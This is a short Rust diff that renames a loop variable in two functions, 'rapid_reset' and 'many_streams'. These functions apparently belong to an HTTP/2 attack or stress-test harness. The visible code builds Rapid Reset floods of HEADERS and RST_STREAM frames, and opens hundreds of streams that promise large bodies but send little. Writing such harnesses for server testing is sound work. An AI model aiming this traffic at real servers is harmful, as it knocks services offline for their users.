@@ -75,8 +75,8 @@ pub(super) fn rapid_reset(attack: Attack<'_>) {
         let Some(mut stream) = connection(&attack) else { continue };
         for round in 0..100 {
             let mut bytes = Vec::new();
-            for at in 0..100 {
-                let id = 1 + 2 * (round * 100 + at);
+            for index in 0..100 {
+                let id = 1 + 2 * (round * 100 + index);
                 bytes.extend(frame(HEADERS, END_HEADERS, id, &headers));
                 bytes.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
             }
@@ -94,8 +94,8 @@ pub(super) fn many_streams(attack: Attack<'_>) {
         let mut open = Vec::new();
         for _ in 0..8 {
             let Some(mut stream) = connection(&attack) else { continue };
-            for at in 0..300 {
-                let id = 1 + 2 * at;
+            for index in 0..300 {
+                let id = 1 + 2 * index;
                 // It announces 16 MiB and sends a kilobyte.
                 let begin = [&[0, 1, 0, 0, 0][..], &[0; 1000]].concat();
                 let bytes = [frame(HEADERS, END_HEADERS, id, &headers), frame(DATA, 0, id, &begin)].concat();
